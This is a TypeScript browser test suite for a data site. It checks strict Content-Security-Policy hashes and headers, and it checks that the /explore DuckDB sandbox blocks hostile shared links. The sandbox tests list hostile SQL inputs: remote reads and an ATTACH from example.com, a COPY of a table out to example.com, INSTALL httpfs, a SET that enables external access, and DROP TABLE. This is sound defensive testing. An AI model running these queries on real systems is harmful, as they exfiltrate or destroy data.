/**
 * The site as a hostile link and an ordinary host would try it (issue 12):
 * - every built page carries a strict Content-Security-Policy whose hashes match what the page inlines, and the
 *   server sends the header form; pages that run code (a story page, /explore with queries, a notebook, /zh/data)
 *   raise no violation;
 * - a shared /explore link cannot make the browser contact another host, install or load an extension, or unlock
 *   the engine's settings, and says why; a link that drops a table does not wedge the page, and the table is back
 *   for the next query;
 * - DuckDB starts when the host serves `.wasm` as application/octet-stream.
 */
import {createHash} from "node:crypto";
import {readdirSync, readFileSync} from "node:fs";
import {join} from "node:path";
import type {Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, test} from "vitest";
import {serveStatic, type StaticServer} from "../../scripts/serve.js";
import {BASE_PATH, builtRoutes, explorerReady, openPage, runExplorerSql, useSite} from "./browser.js";
import {queryBuilt} from "./helpers.js";

const site = useSite();

function builtFile(route: string): string {
  const file = route === "" || route.endsWith("/") ? `${route}index.html` : `${route}.html`;
  return readFileSync(join("dist", file), "utf8");
}

/** Opens a page that also records every CSP violation the document reports (they are console errors as well). */
async function openRecorded(url: string, origin = new URL(site.server.url).origin) {
  const opened = await openPage(site.browser, origin);
  const violations: string[] = [];
  const responses: {url: string; type: string; status: number}[] = [];
  opened.page.on("response", (r) => responses.push({url: r.url(), type: r.headers()["content-type"] ?? "", status: r.status()}));
  await opened.page.exposeFunction("__atlasViolation", (text: string) => violations.push(text));
  await opened.page.addInitScript(() =>
    document.addEventListener("securitypolicyviolation", (e) =>
      (window as unknown as {__atlasViolation(text: string): void}).__atlasViolation(`${e.effectiveDirective} blocked ${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}`)
    )
  );
  await opened.page.goto(url);
  return {...opened, violations, responses};
}

const errorText = (page: Page) => page.locator(".atlas-explorer-error").innerText();

describe("Content-Security-Policy", () => {
  test("every built page carries a strict policy whose hashes are exactly its inline scripts and styles", () => {
    const routes = builtRoutes();
    expect(routes.length).toBeGreaterThan(30);
    for (const route of routes) {
      const html = builtFile(route);
      const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html);
      expect(meta, route).not.toBeNull();
      // A <meta> policy governs only what follows it: nothing that loads or runs may come before it.
      expect(html.slice(0, meta!.index), route).not.toMatch(/<(script|style|link)\b/i);
      const policy = meta![1].replaceAll("&quot;", '"').replaceAll("&amp;", "&");
      const directive = (name: string) => policy.split("; ").find((d) => d.startsWith(`${name} `))?.split(" ").slice(1) ?? [];
      const hash = (body: string) => `'sha256-${createHash("sha256").update(body, "utf8").digest("base64")}'`;
      const inlineScripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter(([, attrs, body]) => !attrs.includes("src=") && body).map(([, , body]) => hash(body));
      const inlineStyles = [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/g)].map(([, body]) => hash(body));
      expect(directive("script-src").sort(), route).toEqual(["'self'", "'wasm-unsafe-eval'", ...new Set(inlineScripts)].sort());
      expect(directive("style-src").sort(), route).toEqual(["'self'", ...new Set(inlineStyles)].sort());
      for (const [name, value] of [["default-src", "'self'"], ["connect-src", "'self'"], ["object-src", "'none'"], ["base-uri", "'self'"], ["worker-src", "'self'"]])
        expect(directive(name), `${route} ${name}`).toEqual([value]);
      expect(policy, route).not.toMatch(/'unsafe-eval'|script-src[^;]*'unsafe-inline'/);
    }
  });

  test("the server sends the build's header policy, with frame-ancestors", async () => {
    const response = await fetch(`${site.server.url}funding`);
    const header = response.headers.get("content-security-policy") ?? "";
    expect(header).toContain("frame-ancestors 'self'");
    expect(header).toContain("connect-src 'self'");
    expect(header).not.toContain("'unsafe-eval'");
    expect((await fetch(`${site.server.url}_headers`)).status).toBe(404);
    // DuckDB's worker takes its policy from its own response, so it gets the header too (and runs under it: below).
    const worker = readdirSync(join("dist", "_import", "components")).find((f) => /^duckdbWorker\.[0-9a-f]{8}\.js$/.test(f));
    expect(worker).toBeDefined();
    const workerResponse = await fetch(`${site.server.url}_import/components/${worker}`);
    expect(workerResponse.headers.get("content-security-policy")).toBe(header);
  });

  test("a story page, a notebook and /zh/data run under both policies without a violation", async () => {
    for (const route of ["pivots", "notebooks/edge-models", "zh/data"]) {
      const {page, context, problems, violations} = await openRecorded(site.server.url + route);
      try {
        await page.waitForLoadState("networkidle");
        await page.waitForFunction(() => document.querySelectorAll('[aria-busy="true"]').length === 0, undefined, {timeout: 60_000});
        // Drew something from data: the live page ran (a blocked module would leave only the build's copy, and a
        // notebook nothing). A notebook's ```sql``` tables arrive once DuckDB has answered.
        await page.locator("main svg, main table").first().waitFor({timeout: 60_000});
        await page.waitForLoadState("networkidle");
        expect(violations, route).toEqual([]);
        expect(problems.consoleErrors, route).toEqual([]);
      } finally {
        await context.close();
      }
    }
  });
});

describe("/explore is a sandbox", () => {
  test("a link naming other hosts, files, extensions or settings reaches nothing, says why, and the next query runs", async () => {
    const link = "SELECT * FROM read_csv('http://example.com/a.csv')";
    const {page, context, problems, violations} = await openRecorded(`${site.server.url}explore?sql=${encodeURIComponent(link)}`);
    try {
      await explorerReady(page);
      expect(await errorText(page)).toMatch(/reads only the atlas's own tables[\s\S]*Permission Error/);
      const attempts = [
        "FROM 'https://example.com/x.parquet'",
        "SELECT * FROM read_parquet('https://example.com/x.parquet')",
        "SELECT * FROM read_json('https://example.com/x.json')",
        "ATTACH 'https://example.com/x.duckdb' AS remote",
        "COPY companies TO 'https://example.com/out.csv'",
        "INSTALL httpfs",
        "LOAD httpfs",
        "SET enable_external_access = true",
        "SET autoload_known_extensions = true"
      ];
      for (const sql of attempts) {
        await runExplorerSql(page, sql);
        expect(await page.locator(".atlas-explorer-error").isVisible(), sql).toBe(true);
        expect(await errorText(page), sql).toMatch(/reads only the atlas's own tables/);
      }
      await runExplorerSql(page, "SELECT count(*)::INTEGER AS n FROM companies");
      const [expected] = await queryBuilt("SELECT count(*)::INTEGER AS n FROM companies", ["companies"]);
      expect(await page.locator("#explore-result .atlas-explorer-table tbody td").first().textContent()).toBe(String(expected.n));
      expect(problems.foreignRequests).toEqual([]);
      expect(violations).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test("a link that drops a table does not wedge the page, and the table is back for the next query", async () => {
    const {page, context, problems} = await openRecorded(`${site.server.url}explore?sql=${encodeURIComponent("DROP TABLE companies")}`);
    try {
      await explorerReady(page);
      expect(await page.locator("#explore-status").textContent()).toMatch(/is ready: \d+ tables/);
      expect(await page.locator(".atlas-explorer-restored").textContent()).toMatch(/changed companies; the published tables were put back/);
      await runExplorerSql(page, "UPDATE funding_rounds SET amount_usd_mid = 0; SELECT 1 AS x");
      expect(await page.locator(".atlas-explorer-restored").textContent()).toMatch(/changed funding_rounds;/);
      const check = "SELECT (SELECT count(*) FROM companies)::INTEGER AS n, (SELECT count(*) FROM funding_rounds WHERE amount_usd_mid > 0)::INTEGER AS paid";
      await runExplorerSql(page, check);
      const [expected] = await queryBuilt(check, ["companies", "funding_rounds"]);
      expect(expected.paid).toBeGreaterThan(0);
      const cells = await page.locator("#explore-result .atlas-explorer-table tbody td").allTextContents();
      expect(cells).toEqual([String(expected.n), String(expected.paid)]);
      expect(await page.locator(".atlas-explorer-restored").count()).toBe(0);
      expect(problems.consoleErrors).toEqual([]);
    } finally {
      await context.close();
    }
  });
});

describe("a host that serves .wasm as application/octet-stream", () => {
  let octet: StaticServer;
  beforeAll(async () => {
    octet = await serveStatic("dist", {base: BASE_PATH, wasmType: "application/octet-stream"});
  });
  afterAll(() => octet?.close());

  test("/explore still starts DuckDB and answers", async () => {
    const origin = new URL(octet.url).origin;
    const {page, context, problems, responses} = await openRecorded(`${octet.url}explore?sql=${encodeURIComponent("SELECT 42 AS answer")}`, origin);
    try {
      await explorerReady(page);
      const wasm = responses.filter((r) => r.url.endsWith(".wasm") && r.status === 200);
      expect(wasm.length).toBeGreaterThan(0);
      expect(wasm.map((r) => r.type)).toEqual(wasm.map(() => "application/octet-stream"));
      expect(await page.locator("#explore-status").textContent()).toMatch(/is ready/);
      expect(await page.locator("#explore-result .atlas-explorer-table tbody td").first().textContent()).toBe("42");
      expect(problems.consoleErrors).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
